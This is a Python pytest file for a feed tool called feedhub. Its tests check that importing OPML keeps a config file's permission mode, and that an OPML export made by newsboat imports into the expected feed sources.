def test_the_file_keeps_its_mode(tmp_path):
    config = write(tmp_path / "feedhub.yaml", CONFIG)
    config.chmod(0o600)
    import_opml(write(tmp_path / "reader.opml", READER), config)
    assert config.stat().st_mode & 0o777 == 0o600
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


@pytest.mark.skipif(shutil.which("newsboat") is None, reason="newsboat is not installed (scripts/test installs it)")
def test_newsboats_own_export_imports(tmp_path):
    home = tmp_path / "home"
    home.mkdir()
    urls = write(home / "urls", 'https://example.org/feed.xml "tech" "~Example Blog"\n'
                                "http://example.com/rss\n"
                                '"query:Unread:unread = \\"yes\\""\n')
    env = {**os.environ, "HOME": str(home), "XDG_CONFIG_HOME": str(home), "XDG_DATA_HOME": str(home)}
    export = subprocess.run(["newsboat", "-u", str(urls), "-c", str(home / "cache.db"), "-C", os.devnull, "-e"],
                            capture_output=True, env=env, cwd=home, timeout=60, check=True)
    opml = tmp_path / "newsboat.opml"
    opml.write_bytes(export.stdout)
    config = write(tmp_path / "feedhub.yaml", CONFIG)
    run = feedhub("import-opml", str(opml), "--config", str(config))
    assert run.returncode == 0, run.stderr
    sources = sources_of(config)
    # The query feed is not exported; a feed never fetched has no title.
    new = {name: value for name, value in sources.items() if name not in ("LWN.net", "Reuters World")}
    assert new == {"Example Blog": ("https://example.org/feed.xml", ("Uncategorized",)),
                   "example.com": ("http://example.com/rss", ("Uncategorized",))}
    assert feedhub("check-config", "--config", str(config)).returncode == 0
